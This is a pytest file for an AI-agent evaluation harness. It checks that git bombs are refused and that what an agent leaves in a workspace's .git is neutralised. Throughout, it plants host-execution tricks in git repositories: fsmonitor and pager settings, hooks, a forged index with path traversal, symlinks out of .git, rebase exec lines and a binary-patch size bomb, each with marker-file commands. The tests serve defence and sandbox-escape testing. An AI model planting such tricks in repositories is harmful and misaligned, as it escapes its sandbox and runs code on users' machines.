"""Git sources against a hostile repository or agent: a commit too big to check out on
the host is refused from its tree (F7), and what an agent left in a workspace's .git
for git to run on the host is taken out after the attempt (F4). Every repository is
made here; nothing touches the network."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import evalctl._sources.git as gitsource
from evalctl._cli import cli
from evalctl._sources.git import SourceCache, SourceError, neutralise_repository_config
from evalctl._sources.model import Source
from evalctl._sources.patch import patch_problems

from .test_sources import GIT_ENV, commit, git, git_suite

# --- F7: a commit too big to check out ------------------------------------------------


def plumbing(repo: Path, *args: str, data: bytes | None = None) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], input=data, capture_output=True,
                          env=GIT_ENV, timeout=60, check=True)
    return done.stdout.decode().strip()


def bomb(tmp_path: Path, *, width: int = 10, depth: int = 3, big: int = 0) -> tuple[Path, str]:
    """A repository of one commit whose tree names one subtree `width` times at each of
    `depth` levels (width**depth files from a single blob), and a zero-filled file of
    `big` bytes beside it: (repository, commit)."""
    repo = tmp_path / "bomb"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    top = f"040000 tree {nested_tree(repo, width, depth)}\tnest\n"
    if big:
        zeros = plumbing(repo, "hash-object", "-w", "--stdin", data=bytes(big))
        top += f"100644 blob {zeros}\tzeros.bin\n"
    tree = plumbing(repo, "mktree", data=top.encode())
    rev = plumbing(repo, "commit-tree", tree, "-m", "bomb")
    return repo, rev


def nested_tree(repo: Path, width: int, depth: int) -> str:
    """A tree written in `repo` that names one subtree `width` times at each of `depth`
    levels, down to `width` names of one blob: width**depth files from depth+1 objects."""
    blob = plumbing(repo, "hash-object", "-w", "--stdin", data=b"x\n")
    entries = "".join(f"100644 blob {blob}\tf{i}\n" for i in range(width))
    tree = plumbing(repo, "mktree", data=entries.encode())
    for _ in range(depth - 1):
        entries = "".join(f"040000 tree {tree}\td{i}\n" for i in range(width))
        tree = plumbing(repo, "mktree", data=entries.encode())
    return tree


def source_of(repo: Path, rev: str) -> Source:
    return Source("git", str(repo.resolve()), rev, written=repo.name)


def test_a_commit_with_more_entries_than_the_bound_is_refused_before_any_checkout(
        tmp_path, monkeypatch):
    repo, rev = bomb(tmp_path, depth=4)  # 10,000 files, 1,111 directories, 5 objects
    monkeypatch.setattr(gitsource, "MAX_SOURCE_ENTRIES", 5_000)
    target = tmp_path / "workspace"
    target.mkdir()
    with pytest.raises(SourceError) as caught:
        SourceCache(tmp_path / "cache").check_out(source_of(repo, rev), target)
    assert "more than 5,000 entries" in str(caught.value)
    assert "MAX_SOURCE_ENTRIES" in str(caught.value)
    assert f"commit {rev[:12]} of bomb is too big to check out" in str(caught.value)
    assert list(target.iterdir()) == []  # nothing of it was written


def test_a_file_over_the_bound_is_refused_with_its_name_and_size(tmp_path, monkeypatch):
    repo, rev = bomb(tmp_path, width=2, depth=2, big=3 * 1024 * 1024)
    monkeypatch.setattr(gitsource, "MAX_SOURCE_FILE_BYTES", 1024 * 1024)
    with pytest.raises(SourceError) as caught:
        SourceCache(tmp_path / "cache").check_out(source_of(repo, rev), tmp_path / "w")
    assert "'zeros.bin' is 3,145,728 bytes, over the bound of 1,048,576" in str(caught.value)
    assert not (tmp_path / "w").exists() or not any((tmp_path / "w").iterdir())


def test_files_over_the_total_bound_are_refused(tmp_path, monkeypatch):
    repo, rev = bomb(tmp_path, width=10, depth=2, big=200_000)
    monkeypatch.setattr(gitsource, "MAX_SOURCE_BYTES", 100_000)
    with pytest.raises(SourceError, match=r"hold more than 100,000 bytes .*MAX_SOURCE_BYTES"):
        SourceCache(tmp_path / "cache").ensure(source_of(repo, rev))


def test_the_listing_stops_at_the_bound_instead_of_reading_a_huge_tree(tmp_path):
    repo, rev = bomb(tmp_path, width=10, depth=7)  # 10**7 files: ls-tree whole takes minutes
    started = time.monotonic()
    problem = gitsource.tree_problem(repo, rev, 1_000, 1 << 40, 1 << 40)
    assert problem is not None and "more than 1,000 entries" in problem
    assert time.monotonic() - started < 10


def test_a_listing_that_takes_too_long_is_a_refusal(tmp_path):
    repo, rev = bomb(tmp_path, width=10, depth=7)
    problem = gitsource.tree_problem(repo, rev, 1 << 40, 1 << 40, 1 << 40, timeout=0.2)
    assert problem == "its tree could not be listed within 0.2s"


def test_the_verdict_is_measured_once_per_commit(tmp_path, monkeypatch):
    repo, rev = bomb(tmp_path, width=3, depth=2)
    calls = []
    measure = gitsource.tree_problem

    def counted(*args, **kwargs):
        calls.append(args[1])
        return measure(*args, **kwargs)

    monkeypatch.setattr(gitsource, "tree_problem", counted)
    cache = SourceCache(tmp_path / "cache")
    for number in range(3):  # a workspace and a seed copy per attempt
        cache.check_out(source_of(repo, rev), tmp_path / f"w{number}")
        cache.check_out(source_of(repo, rev), tmp_path / f"s{number}", keep_git=False)
    assert calls == [rev]
    assert (tmp_path / "w2" / "nest" / "d2" / "f2").read_text() == "x\n"
    # A refusal is remembered too, and a lowered bound is measured anew.
    monkeypatch.setattr(gitsource, "MAX_SOURCE_ENTRIES", 5)
    for _ in range(2):
        with pytest.raises(SourceError, match="more than 5 entries"):
            cache.ensure(source_of(repo, rev))
    assert calls == [rev, rev]


def test_validate_refuses_a_bomb_at_the_source_line(tmp_path, monkeypatch):
    repo, rev = bomb(tmp_path)  # 1,000 files
    monkeypatch.setattr(gitsource, "MAX_SOURCE_ENTRIES", 500)
    suite = tmp_path / "suite.yaml"
    suite.write_text(git_suite("bomb", rev))
    result = CliRunner().invoke(cli, ["validate", str(suite)])
    assert result.exit_code == 2, result.output
    assert "more than 500 entries" in result.output


def test_a_real_sized_repository_is_within_the_default_bounds(tmp_path):
    repo, rev = bomb(tmp_path, width=10, depth=3, big=10 * 1024 * 1024)
    assert gitsource.tree_problem(repo, rev, gitsource.MAX_SOURCE_ENTRIES,
                                  gitsource.MAX_SOURCE_BYTES,
                                  gitsource.MAX_SOURCE_FILE_BYTES) is None


# --- F4: what an agent leaves in .git -------------------------------------------------

PATCH_INTO_GIT = ("diff --git a/.git/config b/.git/config\n--- a/.git/config\n"
                  "+++ b/.git/config\n@@ -1 +1,2 @@\n [core]\n+\tfsmonitor = touch x\n")


def test_a_verify_patch_into_git_is_refused():
    assert patch_problems(PATCH_INTO_GIT) == ["'.git/config' is inside a repository's .git "
                                              "directory"]
    nested = PATCH_INTO_GIT.replace(".git/config", "sub/.git/hooks/pre-commit")
    assert any("inside a repository's .git" in p for p in patch_problems(nested))
    assert patch_problems(PATCH_INTO_GIT.replace(".git/config", "a.gitignore")) == []


@pytest.fixture
def workspace(tmp_path) -> tuple[Path, Path]:
    """A git source's workspace and seed copy, as an attempt starts with them."""
    repo = tmp_path / "project"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    rev = commit(repo, {"README": "hello\n", "src/app.py": "print(1)\n"}, "base")
    cache = SourceCache(tmp_path / "cache")
    root, seed = tmp_path / "run" / "task", tmp_path / "run" / ".seed" / "task"
    root.mkdir(parents=True)
    seed.mkdir(parents=True)
    cache.check_out(source_of(repo, rev), root)
    cache.check_out(source_of(repo, rev), seed, keep_git=False)
    return root, seed


def users_git(where: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """git as a user runs it on the host, with its defaults."""
    env = {"PATH": os.defpath, "HOME": str(where.parent), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": os.devnull}
    return subprocess.run(["git", *args], cwd=where, env=env, capture_output=True, text=True,
                          timeout=60)


def test_an_fsmonitor_and_a_hook_the_agent_planted_do_not_run_on_the_host(workspace, tmp_path):
    root, seed = workspace
    marker, hooked = tmp_path / "MARKER", tmp_path / "HOOKED"
    git(root, "config", "core.fsmonitor", f"touch {marker}; false #")
    git(root, "config", "alias.st", f"!touch {marker}")
    git(root, "config", "user.email", "agent@example.invalid")
    hooks = root / ".git" / "hooks"
    hooks.mkdir()
    (hooks / "post-index-change").write_text(f"#!/bin/sh\ntouch {hooked}\n")
    (hooks / "post-index-change").chmod(0o755)
    (root / "README").write_text("changed\n")
    # What the finding showed: the user's `git status` runs the agent's command.
    users_git(root, "status")
    assert marker.exists()
    marker.unlink()
    hooked.unlink(missing_ok=True)

    done = neutralise_repository_config(root, seed)
    assert set(done) == {".git/config", ".git/hooks"}
    assert "without alias.st, core.fsmonitor" in done[".git/config"]
    assert "config.agent" in done[".git/config"]
    assert done[".git/hooks"] == "moved to hooks.agent"
    status = users_git(root, "status", "--porcelain")
    assert status.returncode == 0 and status.stdout == " M README\n"
    users_git(root, "st")
    assert not marker.exists() and not hooked.exists()
    # What the agent left is kept to read; its harmless settings stay in force.
    assert "fsmonitor" in (root / ".git" / "config.agent").read_text()
    assert (root / ".git" / "hooks.agent" / "post-index-change").is_file()
    assert users_git(root, "config", "user.email").stdout == "agent@example.invalid\n"
    assert users_git(root, "log", "--format=%s").stdout == "base\n"
    # Done twice, nothing more is done.
    assert neutralise_repository_config(root, seed) == {}


def agent_identity(root: Path) -> None:
    """The name and email an agent gives its commits, in the repository's config."""
    git(root, "config", "user.name", "Agent")
    git(root, "config", "user.email", "agent@example.invalid")


def test_ordinary_git_work_of_the_agent_is_left_as_it_is(workspace):
    root, seed = workspace
    config = (root / ".git" / "config").read_bytes()
    agent_identity(root)
    (root / "src" / "app.py").write_text("print(2)\n")
    git(root, "commit", "-qam", "fix")
    git(root, "checkout", "-q", "-b", "work")
    assert neutralise_repository_config(root, seed) == {}
    assert (root / ".git" / "config").read_bytes() != config  # its user.* are kept
    assert not list((root / ".git").glob("*.agent*"))


def test_a_config_that_is_a_link_or_includes_another_is_replaced(workspace, tmp_path):
    root, seed = workspace
    elsewhere = tmp_path / "elsewhere.cfg"
    elsewhere.write_text("[core]\n\tpager = touch PAGED\n")
    git(root, "config", "include.path", str(elsewhere))
    assert "include.path" in neutralise_repository_config(root, seed)[".git/config"]
    (root / ".git" / "config").unlink()
    (root / ".git" / "config").symlink_to(elsewhere)
    done = neutralise_repository_config(root, seed)
    assert done[".git/config"] == f"removed (a link to {str(elsewhere)!r}, which git writes " \
                                  "through)"
    assert users_git(root, "status", "--porcelain").stdout == ""  # git needs no config
    (root / ".git" / "config").mkdir()
    assert "unreadable, not a file" in neutralise_repository_config(root, seed)[".git/config"]
    assert (root / ".git" / "config").is_file() and not (root / ".git" / "config").is_symlink()
    assert elsewhere.read_text() == "[core]\n\tpager = touch PAGED\n"  # never written through
    assert users_git(root, "status", "--porcelain").returncode == 0


def test_a_git_file_pointing_elsewhere_is_moved_aside(workspace, tmp_path):
    root, seed = workspace
    # The agent's TMPDIR is outside the workspace but its to write: a repository there
    # with a hostile config, and the workspace's .git made a pointer to it.
    elsewhere = tmp_path / "run" / ".state" / "task" / "repo"
    elsewhere.mkdir(parents=True)
    git(elsewhere, "init", "-q")
    git(elsewhere, "config", "core.fsmonitor", "touch MARKER; false #")
    shutil.rmtree(root / ".git")
    (root / ".git").write_text(f"gitdir: {elsewhere / '.git'}\n")
    done = neutralise_repository_config(root, seed)
    assert list(done) == [".git"] and done[".git"].startswith("moved to .git.agent")
    assert (root / ".git.agent").is_file() and not (root / ".git").exists()


def test_submodule_and_nested_repositories_are_seen_to(workspace):
    root, seed = workspace
    module = root / ".git" / "modules" / "lib"
    module.mkdir(parents=True)
    git(module.parent, "init", "-q", "--bare", "lib")
    git(module, "config", "core.fsmonitor", "touch MARKER; false #")
    nested = root / "vendor" / "thing"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    git(nested, "config", "diff.external", "touch MARKER")
    (nested / ".git" / "commondir").write_text("/tmp/elsewhere\n")
    done = neutralise_repository_config(root, seed)
    assert "core.fsmonitor" in done[".git/modules/lib/config"]
    assert "diff.external" in done["vendor/thing/.git/config"]
    assert done["vendor/thing/.git/commondir"] == "moved to commondir.agent"
    # git init's own hook samples run nothing and are left.
    assert "vendor/thing/.git/hooks" not in done
    assert (nested / ".git" / "hooks").is_dir()


def test_a_bare_repository_of_the_source_is_left_but_one_the_agent_changed_is_not(
        workspace):
    root, seed = workspace
    for base in (root, seed):  # a test fixture the source holds, in both
        fixture = base / "tests" / "fixture.git"
        fixture.mkdir(parents=True)
        git(fixture.parent, "init", "-q", "--bare", "--template=", "fixture.git")
        git(fixture, "config", "core.fsmonitor", "echo fixture")
    assert neutralise_repository_config(root, seed) == {}
    git(root / "tests" / "fixture.git", "config", "core.fsmonitor", "touch MARKER; false #")
    done = neutralise_repository_config(root, seed)
    assert list(done) == ["tests/fixture.git/config"]
    # Without the seed copy to compare with, any repository is seen to.
    assert list(neutralise_repository_config(seed)) == ["tests/fixture.git/config"]


def test_a_git_directory_the_agent_made_read_only_is_seen_to_as_well(workspace):
    root, seed = workspace
    git(root, "config", "core.fsmonitor", "touch MARKER; false #")
    nested = root / "locked"
    nested.mkdir()
    git(nested, "init", "-q", "--template=")
    git(nested, "config", "core.pager", "touch MARKER")
    (root / ".git").chmod(0o555)
    nested.chmod(0o000)  # not even listable
    try:
        done = neutralise_repository_config(root, seed)
        # The .git is written to, so its owner's permissions are given back; a directory
        # only looked in gets them back only when it could not be read (as root it can:
        # the agent's permissions are part of what it left, and stay).
        assert (root / ".git").stat().st_mode & 0o700 == 0o700
        assert nested.stat().st_mode & 0o700 == (0 if os.geteuid() == 0 else 0o700)
    finally:
        for path in (nested, root / ".git"):
            path.chmod(0o755)
    assert set(done) == {".git/config", "locked/.git/config"}
    assert all(d.startswith("rewritten") for d in done.values())


def test_a_run_leaves_no_command_of_the_agents_for_the_users_git(tmp_path):
    """End to end (the attacker's run): an agent sets core.fsmonitor in its git-source
    workspace; the run takes it out after the attempt and says so in the ledger, and
    the user's `git status` in the kept workspace runs nothing of the agent's."""
    import json

    import evalctl

    repo = tmp_path / "calc"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    base = commit(repo, {"calc.py": "x = 1\n"}, "base")
    marker = tmp_path / "MARKER-fsmonitor-ran"
    suite = tmp_path / "suite.yaml"
    suite.write_text(
        f"- id: plant\n  prompt: p\n  source:\n    git: calc\n    rev: {base}\n"
        "  checks:\n    - type: file_exists\n      path: calc.py\n  script:\n"
        "    - tool_calls:\n        - tool: bash\n          input:\n            command: "
        f"\"git config core.fsmonitor 'touch {marker}; false #' && echo y >> calc.py\"\n"
        "    - text: Done.\n")
    run = evalctl.testing.run_suite(suite, out_dir=tmp_path / "out", sandbox="local")
    task = run.tasks[0]
    assert task.status == "passed", (task.error, task.checks)
    events = [json.loads(line) for line in Path(task.ledger).read_text().splitlines()]
    neutralised = [e for e in events if e["event"] == "repository_neutralised"]
    assert len(neutralised) == 1 and "core.fsmonitor" in neutralised[0]["paths"][".git/config"]
    marker.unlink(missing_ok=True)
    assert users_git(Path(task.workspace), "status", "--porcelain").stdout == " M calc.py\n"
    assert not marker.exists()


# --- the round after: what the clean-up and the bounds missed --------------------------

def test_an_index_that_stages_what_head_does_not_hold_is_replaced_by_heads(workspace):
    """Found by attacker rounds: an index edited to stage .git/hooks/post-checkout, or a
    name with `..` (git does not check an index's names when it reads one), made the
    user's `git checkout -- .` write a hook and run it, or a file outside the workspace.
    An index git reads differently from one made of HEAD's tree is moved aside and
    replaced by that one (git checks the names it takes from a tree)."""
    import hashlib

    root, seed = workspace
    (root / "Xgit" / "hooks").mkdir(parents=True)
    (root / "Xgit" / "hooks" / "post-checkout").write_text("#!/bin/sh\ntouch MARKER\n")
    (root / "ab").mkdir()
    (root / "ab" / "x").write_text("outside\n")
    git(root, "add", "-A")
    for version in ("2", "4"):
        git(root, "update-index", "--index-version", version)
        index = root / ".git" / "index"
        body = index.read_bytes()[:-20].replace(b"Xgit/hooks", b".git/hooks") \
            .replace(b"ab/x", b"../x")
        forged = body + hashlib.sha1(body).digest()  # a checksum git accepts
        index.write_bytes(forged)
        done = neutralise_repository_config(root, seed)
        assert done[".git/index"].startswith("moved to index.agent"), done
        assert done[".git/index"].endswith("a new one was made from HEAD")
        assert (root / ".git" / "index.agent").read_bytes() == forged
        staged = users_git(root, "ls-files", "--stage").stdout
        assert ".git/hooks" not in staged and "../x" not in staged and "README" in staged
        (root / ".git" / "index.agent").unlink()
        git(root, "add", "-A")
    # An index that stages no more than HEAD holds (changes made and not staged, or
    # committed) is the agent's, kept as it is, its cached file times included.
    git(root, "reset", "-q", "--hard")
    git(root, "clean", "-qfdx")
    (root / "README").write_text("changed, not staged\n")
    assert ".git/index" not in neutralise_repository_config(root, seed)


def test_a_link_where_git_looks_for_a_submodules_repository_is_moved_aside(workspace,
                                                                           tmp_path):
    """Found by an attacker round: .git/modules/NAME linked to a repository in the
    attempt's TMPDIR, whose hook `git submodule update --init` ran on the host."""
    root, seed = workspace
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / ".git" / "modules").mkdir()
    (root / ".git" / "modules" / "sub").symlink_to(elsewhere)
    done = neutralise_repository_config(root, seed)
    assert done[".git/modules/sub"] == f"removed (a link to {str(elsewhere)!r}, which git " \
                                       "writes through)"
    assert list((root / ".git" / "modules").iterdir()) == []
    # Not renamed: git would find a renamed link under the name of a submodule the agent
    # called `sub.agent`. Done twice, nothing more is done.
    assert neutralise_repository_config(root, seed) == {}


def test_a_paused_rebases_todo_is_moved_aside(workspace):
    """Found by an attacker round: .git/rebase-merge kept an `exec` line that the user's
    `git rebase --continue` would run."""
    root, seed = workspace
    (root / ".git" / "rebase-merge").mkdir()
    (root / ".git" / "rebase-merge" / "git-rebase-todo").write_text("exec touch MARKER\n")
    done = neutralise_repository_config(root, seed)
    assert done[".git/rebase-merge"] == "moved to rebase-merge.agent"


def test_a_workspace_that_cannot_be_listed_is_not_taken_for_small(tmp_path, monkeypatch):
    """Found by an attacker round (as a user other than root): a directory the agent made
    unreadable made the workspace look small with no .git, and the clean-up was skipped."""
    from evalctl._files import small_tree

    (tmp_path / "locked").mkdir()
    real = os.scandir

    def refusing(path):
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    assert small_tree(tmp_path, without=frozenset({".git"}))
    monkeypatch.setattr(os, "scandir", refusing)
    assert not small_tree(tmp_path, without=frozenset({".git"}))


def test_checkout_attributes_cannot_grow_a_file_past_what_was_counted(tmp_path):
    """Found by an attacker round: the tree's own .gitattributes (`ident`,
    `working-tree-encoding`, which need no configuration) wrote a file 47 times the size
    the bounds counted. The checkout turns them off."""
    repo = tmp_path / "grow"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / ".gitattributes").write_text("*.txt ident working-tree-encoding=UTF-16\n")
    (repo / "a.txt").write_bytes(("$Id$\n" * 1000).encode("utf-16"))  # stored as UTF-8
    rev = commit(repo, {}, "grow")
    target = tmp_path / "w"
    target.mkdir()
    SourceCache(tmp_path / "cache").check_out(source_of(repo, rev), target)
    assert (target / "a.txt").read_bytes() == b"$Id$\n" * 1000
    assert not (target / ".git" / "info" / "attributes").exists()


def test_a_binary_verify_patch_is_refused():
    """Found by an attacker round: a 230-byte binary delta made git apply write a
    gigabyte on the host before the result's size was looked at."""
    patch = ("diff --git a/t.txt b/t.txt\n--- a/t.txt\n+++ b/t.txt\n@@ -1 +1 @@\n-a\n+b\n"
             "diff --git a/big.bin b/big.bin\nnew file mode 100644\nindex 0000000..1111111\n"
             "GIT binary patch\nliteral 10\nRcmZ?wbL)VD5B^;x0RU2Q0}22D\n\nliteral 0\n"
             "HcmV?d00001\n\n")
    assert any("binary patch" in problem for problem in patch_problems(patch))


def test_the_regrade_and_the_attempts_state_are_cleaned_too(tmp_path):
    """Found by an attacker round: a repository the agent built in its TMPDIR (kept on
    the host under .state/), reached by a link from the workspace, kept its fsmonitor;
    and a regrade's copy, whose checks ran the agent's code again, was not cleaned."""
    import json

    import evalctl

    marker = tmp_path / "MARKER"
    suite = tmp_path / "suite.yaml"
    command = (f"mkdir -p $TMPDIR/evil && git -C $TMPDIR/evil init -q && git -C "
               f"$TMPDIR/evil config core.fsmonitor 'touch {marker}; false #' && "
               f"ln -s $TMPDIR/evil src && echo done > out.txt")
    suite.write_text(
        "- id: plant\n  prompt: p\n  checks:\n    - type: command\n"
        f"      command: git init -q again && git -C again config core.pager 'touch {marker}'"
        "\n  script:\n    - tool_calls:\n        - tool: bash\n          input:\n"
        f"            command: {json.dumps(command)}\n    - text: Done.\n")
    run = evalctl.testing.run_suite(suite, out_dir=tmp_path / "out", sandbox="local")
    task = run.tasks[0]
    events = [json.loads(line) for line in Path(task.ledger).read_text().splitlines()]
    cleaned = {path for e in events if e["event"] == "repository_neutralised"
               for path in e["paths"]}
    assert ".state/plant/evil/.git/config" in cleaned and "again/.git/config" in cleaned
    result = CliRunner().invoke(cli, ["regrade", run.run_directory, "--out",
                                      str(tmp_path / "regraded")])
    assert result.exit_code in (0, 1), result.output
    [copy] = [p for p in (tmp_path / "regraded").glob("workspaces-*/plant")]
    assert users_git(copy / "again", "status").returncode == 0
    assert users_git(copy / "again", "-c", "core.pager=cat", "log").returncode in (0, 128)
    assert not marker.exists()
    assert "core.pager" not in (copy / "again" / ".git" / "config").read_text()


def test_an_interrupted_attempt_and_what_a_resume_retires_are_cleaned(tmp_path):
    """Found by an attacker round: an attempt stopped by SIGTERM kept the agent's
    core.fsmonitor, and `--resume` moved it, unchanged, to .retired/, where the docs say
    nothing it did is lost. Both are cleaned now: when the attempt is interrupted, and
    when a resume retires what a killed one left."""
    import asyncio

    from evalctl._plugin.registry import get_registry
    from evalctl._run import runner
    from evalctl._suite.loader import load_suite

    suite = tmp_path / "suite.yaml"
    suite.write_text("- id: plant\n  prompt: p\n  checks:\n    - type: file_exists\n"
                     "      path: x\n")
    plant = "git init -q r && git -C r config core.fsmonitor 'touch MARKER; false #'"
    registry = get_registry()
    prepared = runner.prepare_run(load_suite(suite, registry), registry, runner.RunOptions(
        out_dir=tmp_path / "out", sandbox="local", agent="command",
        agent_options={"argv": f"bash -c \"{plant} && touch planted && sleep 60\"",
                       "model_proxy": False}))
    workspace = prepared.run_dir / "plant"

    async def interrupted() -> None:
        running = asyncio.ensure_future(runner.run_task(prepared.tasks[0], prepared))
        for _ in range(300):
            if (workspace / "planted").exists():
                break
            await asyncio.sleep(0.02)
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running

    asyncio.run(interrupted())
    config = (workspace / "r" / ".git" / "config").read_text()
    assert "fsmonitor" not in config and (workspace / "r" / ".git" / "config.agent").exists()
    # A killed attempt's (nothing ran after it): cleaned as a resume retires it.
    git(workspace / "r", "config", "core.fsmonitor", "touch MARKER; false #")
    into = prepared.run_dir / ".retired" / "session-1" / "plant"
    assert runner._retire(prepared.run_dir, "plant", into, None) is not None
    assert "fsmonitor" not in (into / "workspace" / "r" / ".git" / "config").read_text()


def test_links_anywhere_in_a_git_directory_are_moved_aside_so_git_writes_nowhere_else(
        workspace, tmp_path):
    """Found by a fifth attacker round: COMMIT_EDITMSG and logs/HEAD linked to host
    files, and refs/heads and logs/refs linked to host directories, had the user's own
    `git commit` and `git stash` in the kept workspace write there, with text the agent
    chose through MERGE_MSG or HEAD's subject."""
    root, seed = workspace
    outside = tmp_path / "outside"
    (outside / "heads").mkdir(parents=True)
    (outside / "profile").write_text("the user's profile\n")
    (outside / "loghead").write_text("")
    dot_git = root / ".git"
    (dot_git / "MERGE_MSG").write_text("$(touch MARKER)\n")
    (dot_git / "COMMIT_EDITMSG").symlink_to(outside / "profile")
    (dot_git / "logs").mkdir(exist_ok=True)
    (dot_git / "logs" / "HEAD").unlink(missing_ok=True)
    (dot_git / "logs" / "HEAD").symlink_to(outside / "loghead")
    shutil.rmtree(dot_git / "refs" / "heads")
    (dot_git / "refs" / "heads").symlink_to(outside / "heads")
    os.mkfifo(dot_git / "objects" / "fifo")

    done = neutralise_repository_config(root, seed)
    for path, target in ((".git/COMMIT_EDITMSG", "profile"), (".git/logs/HEAD", "loghead"),
                         (".git/refs/heads", "heads")):
        assert done[path] == f"removed (a link to {str(outside / target)!r}, which git " \
                             "writes through)", path
    assert done[".git/objects/fifo"] == "removed (neither a file nor a directory)"
    assert done[".git/MERGE_MSG"] == "moved to MERGE_MSG.agent"
    assert not (dot_git / "refs" / "heads").exists()

    # The user's git afterwards: a commit with the default message source, a branch, a
    # stash. Nothing of it reaches outside.
    (root / "README").write_text("changed\n")
    env = ["-c", "user.name=U", "-c", "user.email=u@example.invalid"]
    assert users_git(root, *env, "commit", "-qam", "mine").returncode == 0
    assert users_git(root, *env, "checkout", "-q", "-b", "feature").returncode == 0
    (root / "README").write_text("again\n")
    assert users_git(root, *env, "stash").returncode == 0
    assert (outside / "profile").read_text() == "the user's profile\n"
    assert (outside / "loghead").read_text() == ""
    assert list((outside / "heads").iterdir()) == []
    assert (dot_git / "refs" / "heads" / "feature").is_file()
    assert users_git(root, "log", "-1", "--format=%s", "feature").stdout == "mine\n"


def test_a_head_that_is_an_old_style_link_becomes_the_file_git_makes_now(workspace, tmp_path):
    root, seed = workspace
    head = root / ".git" / "HEAD"
    rev = users_git(root, "rev-parse", "HEAD").stdout.strip()
    git(root, "branch", "main", rev)
    head.unlink()
    head.symlink_to("refs/heads/main")
    done = neutralise_repository_config(root, seed)
    assert done[".git/HEAD"] == "removed (a link to 'refs/heads/main', which git writes " \
                                "through); HEAD now names refs/heads/main"
    assert head.read_text() == "ref: refs/heads/main\n" and not head.is_symlink()
    assert users_git(root, "rev-parse", "HEAD").stdout.strip() == rev
    # A HEAD linked anywhere else is only moved aside.
    head.unlink()
    head.symlink_to("../../../elsewhere")
    done = neutralise_repository_config(root, seed)
    assert done[".git/HEAD"] == "removed (a link to '../../../elsewhere', which git writes " \
                                "through); HEAD now names refs/heads/evalctl-head-moved-aside"
    # One naming a branch that says so, not none: git would go on up to the repository
    # around the run directory.
    assert head.read_text() == "ref: refs/heads/evalctl-head-moved-aside\n"
    assert users_git(root, "rev-parse", "--git-dir").stdout == ".git\n"


def test_links_in_a_bare_repository_the_agent_made_are_moved_aside(workspace, tmp_path):
    root, seed = workspace
    bare = root / "bare.git"
    git(root, "init", "-q", "--bare", str(bare))
    (bare / "logs").symlink_to(tmp_path)
    done = neutralise_repository_config(root, seed)
    assert done["bare.git/logs"] == f"removed (a link to {str(tmp_path)!r}, which git writes " \
                                    "through)"


# --- a sixth attacker round, against the clean-up itself -------------------------------


def plant_hook(root: Path, marker: Path) -> None:
    hooks = root / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "post-index-change").write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    (hooks / "post-index-change").chmod(0o755)
    git(root, "config", "core.fsmonitor", f"echo ran >> {marker}; false #")


def test_names_taken_in_advance_do_not_keep_hooks_in_place(workspace, tmp_path):
    """Found by an attacker round: with hooks.agent to hooks.agent.999 made in advance,
    hooks/ and config stayed, and evalctl's own `git read-tree` ran the hook on the
    host during the clean-up."""
    root, seed = workspace
    marker = tmp_path / "MARKER"
    (root / "b").write_text("b\n")
    git(root, "add", "b")  # the index then differs from HEAD's
    plant_hook(root, marker)
    marker.unlink(missing_ok=True)
    for name in ("hooks", "config"):
        (root / ".git" / f"{name}.agent").touch()
        for number in range(1, 1000):
            (root / ".git" / f"{name}.agent.{number}").touch()
    done = neutralise_repository_config(root, seed)
    assert done[".git/hooks"].startswith("moved to hooks.agent.")
    assert "core.fsmonitor" in done[".git/config"]
    assert done[".git/index"].startswith("moved to index.agent")
    assert not marker.exists()
    users_git(root, "status")
    assert not marker.exists()


def test_no_git_runs_in_a_git_directory_that_could_not_be_made_safe(workspace, tmp_path,
                                                                    monkeypatch):
    root, seed = workspace
    marker = tmp_path / "MARKER"
    (root / "b").write_text("b\n")
    git(root, "add", "b")
    plant_hook(root, marker)
    marker.unlink(missing_ok=True)
    real = gitsource._move_aside

    def refuse_hooks(path: str) -> str:
        if path.endswith("hooks"):
            raise OSError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(gitsource, "_move_aside", refuse_hooks)
    done = neutralise_repository_config(root, seed)
    assert done[".git/hooks"] == "NOT moved aside: Permission denied"
    assert done[".git/index"] == "NOT checked: this git directory could not be made safe"
    assert not marker.exists()  # evalctl's own git did not run in it


def test_a_repository_without_config_is_seen_to_and_the_root_is_never_a_fixture(tmp_path):
    """Found by an attacker round: a bare-looking directory with no config was taken
    for the seed's own, so its links stayed (the user's `git gc` wrote through a
    packed-refs link); so was the workspace's root once the agent removed its .git."""
    root, seed = tmp_path / "ws", tmp_path / "seed"
    seed.mkdir()
    (seed / "README").write_text("hi\n")
    root.mkdir()
    git(root, "init", "-q", "--bare", str(root / "sub"))
    for where in (root, root / "sub"):
        (where / "HEAD").write_text("ref: refs/heads/main\n")
        for name in ("objects", "refs"):
            (where / name).mkdir(exist_ok=True)
        (where / "config").unlink(missing_ok=True)
        (where / "packed-refs").symlink_to(tmp_path / "outside")
    done = neutralise_repository_config(root, seed)
    assert done["packed-refs"].startswith("removed (a link to")
    assert done["sub/packed-refs"].startswith("removed (a link to")


def test_a_seed_fixture_keeps_its_config_but_not_what_the_agent_added(tmp_path):
    source = tmp_path / "seed"
    source.mkdir()
    git(source, "init", "-q", "--bare", str(source / "fixture.git"))
    root = tmp_path / "ws"
    shutil.copytree(source, root, symlinks=True)
    config = (root / "fixture.git" / "config").read_bytes()
    (root / "fixture.git" / "logs").symlink_to(tmp_path)
    (root / "fixture.git" / "MERGE_AUTOSTASH").write_text("0" * 40 + "\n")
    done = neutralise_repository_config(root, source)
    assert set(done) == {"fixture.git/logs", "fixture.git/MERGE_AUTOSTASH"}
    assert (root / "fixture.git" / "config").read_bytes() == config  # core.bare = true
    assert neutralise_repository_config(root, source) == {}


def test_an_index_that_hides_changes_from_the_users_git_status_is_replaced(workspace):
    """Found by an attacker round: assume-unchanged and skip-worktree flags kept the
    agent's edits out of the user's `git status` and `git diff`."""
